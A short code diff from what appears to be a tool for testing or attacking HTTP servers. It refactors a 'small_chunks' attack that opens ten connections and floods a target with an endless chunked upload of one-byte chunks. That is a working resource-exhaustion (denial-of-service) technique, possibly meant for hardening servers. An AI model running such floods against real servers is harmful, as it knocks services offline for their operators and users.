@@ -85,7 +85,8 @@ def half_uploads(target: Target) -> None:
 @attack()
 def small_chunks(target: Target) -> None:
     """Uploads in chunks of one byte, without end, on 10 connections."""
-    head = b"POST /upload HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
+    head = HEAD.replace(b"GET /", b"POST /upload")
+    head += b"Transfer-Encoding: chunked\r\n\r\n"
     target.flood(opened(target, 10, head), 10_000 * b"1\r\nx\r\n")
 
 
